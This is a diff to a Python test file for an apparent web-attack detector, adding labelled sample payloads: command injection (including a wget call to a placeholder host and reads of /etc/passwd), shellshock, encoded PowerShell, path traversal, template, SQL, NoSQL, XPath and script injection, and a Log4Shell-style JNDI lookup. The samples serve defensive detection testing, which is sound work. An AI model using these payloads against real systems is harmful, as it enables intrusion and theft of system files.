@@ -38,7 +38,28 @@ ATTACKS = [
     (b"$(wget http://x.example/a)", "shell.substitution"),
     (b"a|c'a't${IFS}/etc/passwd", "shell.command_with_target"),
     (b"() { :;}; /bin/bash -c id", "shell.shellshock"),
-    (b"powershell -enc AAAA", "shell.powershell"),
+    (b"powershell -enc SQBFAFgAIAAoAE4A", "shell.powershell"),
+    (b"8;cat /etc/hosts", "shell.runs_command"),
+    (b"x\nwhoami\n", "shell.runs_on_new_line"),
+    (b"a`ls -la`", "shell.backquoted"),
+    (b"&& id", "shell.runs_short_command"),
+    (b"/etc/apt/sources.list", "path.system_folder"),
+    (b"http://x.example/a.txt?", "path.remote_include"),
+    (b"..%c0%af..%c0%afetc", "path.climbs_encoded"),
+    (b"{{8-3}}", "template.sum"),
+    (b"{{config}}", "template.names_internals"),
+    (b"x' || '2'=='2", "nosql.leaves_string"),
+    (b"db.users.insert({a:1})", "nosql.leaves_string"),
+    (b"/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", "html.script_tag"),
+    (b"x" * 9000 + b"' or 1=1 or 'a'='b", "sql.tautology"),
+    (b"'] | //user | a['", "xpath.leaves_predicate"),
+    (b"q' or 'b'='c", "sql.quoted_condition"),
+    (b"select name from users", "sql.whole_statement"),
+    (b'"><i>x</i>', "html.breaks_out"),
+    (b"eval(location.hash)", "js.reads_secret"),
+    (b"echo(md5(7));", "code.php_runs"),
+    (b"https:/x.example", "http.redirect_trick"),
+    (b"${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}", "template.jndi"),
     (b"../../../../etc/passwd", "path.climbs_far"),
     (b"..%252f..%252fetc%252fpasswd", "path.climbs_twice"),
     (b"/etc/./passwd", "path.unix_secret"),
@@ -175,3 +196,9 @@ def test_time_is_linear(piece: bytes) -> None:
 
     facts_of(b"' or 1=1", "query")
     assert cost(1 << 16) < 24 * cost(1 << 13) + 0.05  # eight times the length; quadratic would be 64 times
+
+
+def test_only_a_request_path_is_expected_not_to_climb() -> None:
+    assert "path.climbs_in_path" in facts_of(b"/a/../b", "path")
+    assert "path.climbs_in_path" not in facts_of(b"/a/../b", "query")
+    assert "scanner.probe_secret" in facts_of(b"/.git/config", "path")
